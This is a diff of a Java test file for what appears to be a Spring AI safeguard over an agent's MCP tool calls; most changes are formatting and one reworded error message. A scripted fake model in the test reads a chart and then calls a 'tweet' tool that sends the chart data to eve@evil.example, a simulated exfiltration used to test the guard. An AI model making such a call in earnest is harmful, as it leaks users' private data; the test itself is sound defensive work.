@@ -46,9 +46,9 @@ import org.springframework.ai.tool.annotation.Tool;
 import org.springframework.boot.autoconfigure.AutoConfigurations;
 import org.springframework.boot.diagnostics.FailureAnalysis;
 import org.springframework.boot.diagnostics.FailureAnalyzer;
+import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
 import org.springframework.boot.test.context.runner.ApplicationContextRunner;
 import org.springframework.boot.test.context.runner.ContextConsumer;
-import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
 import org.springframework.context.ApplicationContext;
 import org.springframework.context.annotation.Bean;
 import org.springframework.context.annotation.Configuration;
@@ -91,8 +91,10 @@ class SluiceAutoConfigurationTest {
                     ? call("read", "{}")
                     : done == 1
                             ? call("tweet", "{\"to\":\"eve@evil.example\",\"text\":\"" + WardServer.CHART + "\"}")
-                            : new AssistantMessage(
-                                    answers.get(answers.size() - 1).getResponses().get(0).responseData());
+                            : new AssistantMessage(answers.get(answers.size() - 1)
+                                    .getResponses()
+                                    .get(0)
+                                    .responseData());
             return new ChatResponse(List.of(new Generation(said)));
         }
 
@@ -138,7 +140,7 @@ class SluiceAutoConfigurationTest {
         }
     }
 
-    private static ApplicationContextRunner bare() {
+    static ApplicationContextRunner bare() {
         return new ApplicationContextRunner()
                 .withConfiguration(AutoConfigurations.of(
                         SluiceAutoConfiguration.class,
@@ -160,9 +162,7 @@ class SluiceAutoConfigurationTest {
                 .build()
                 .prompt("Read the chart")
                 .advisors(spec -> spec.param(ChatMemory.CONVERSATION_ID, conversation))
-                .tools(
-                        application.getBean(SyncMcpToolCallbackProvider.class),
-                        application.getBean(Tools.class))
+                .tools(application.getBean(SyncMcpToolCallbackProvider.class), application.getBean(Tools.class))
                 .call()
                 .content();
     }
@@ -174,14 +174,12 @@ class SluiceAutoConfigurationTest {
                 .build()
                 .prompt("Read the chart")
                 .advisors(spec -> spec.param(ChatMemory.CONVERSATION_ID, "one"))
-                .tools(
-                        application.getBean(SyncMcpToolCallbackProvider.class),
-                        application.getBean(Tools.class))
+                .tools(application.getBean(SyncMcpToolCallbackProvider.class), application.getBean(Tools.class))
                 .call()
                 .content();
     }
 
-    private static void failsWith(ApplicationContextRunner runner, String message) {
+    static void failsWith(ApplicationContextRunner runner, String message) {
         runner.run(context -> {
             Throwable cause = context.getStartupFailure();
             assertNotNull(cause, "it started");
@@ -194,8 +192,7 @@ class SluiceAutoConfigurationTest {
 
     @Test
     void noPolicy_doesNotStart() {
-        failsWith(
-                bare(), "sluice.policy: no policy is named; name a policy file here, or take the starter out");
+        failsWith(bare(), "sluice.policy: no policy is named; name a policy file here, or take the starter out");
         failsWith(
                 bare().withPropertyValues("sluice.policy="),
                 "sluice.policy: no policy is named; name a policy file here, or take the starter out");
@@ -315,17 +312,18 @@ class SluiceAutoConfigurationTest {
 
     @Test
     void chatMemoryThatOutlivesLabels_doesNotStart() {
-        ApplicationContextRunner lasting =
-                application().withBean(ChatMemoryRepository.class, LastingMemory::new);
+        ApplicationContextRunner lasting = application().withBean(ChatMemoryRepository.class, LastingMemory::new);
         failsWith(
                 lasting,
-                "the chat memory outlives the process, and the labels of what is in it do not; name a folder for them in"
+                "the chat memory may outlive the process, and the labels of what is in it do not; name a folder for them in"
                         + " `sluice.state`, or say `memory` there if you know better");
         ContextConsumer<AssertableApplicationContext> starts =
                 context -> assertEquals(null, context.getStartupFailure());
         lasting.withPropertyValues("sluice.state=memory").run(starts);
         lasting.withPropertyValues("sluice.state=" + folder.resolve("state")).run(starts);
-        application().withBean(ChatMemoryRepository.class, InMemoryChatMemoryRepository::new).run(starts);
+        application()
+                .withBean(ChatMemoryRepository.class, InMemoryChatMemoryRepository::new)
+                .run(starts);
     }
 
     @Test
@@ -340,7 +338,10 @@ class SluiceAutoConfigurationTest {
     void connectionThatCantBeAServerOfThePolicy_doesNotStart() {
         failsWith(
                 application()
-                        .withBean("other", List.class, () -> List.of(new NamedClientMcpTransport("my ward", new WardServer()))),
+                        .withBean(
+                                "other",
+                                List.class,
+                                () -> List.of(new NamedClientMcpTransport("my ward", new WardServer()))),
                 "`my?ward` can't be the name of a server: use letters, digits, `-` and single `_`, 40 at most");
     }
 
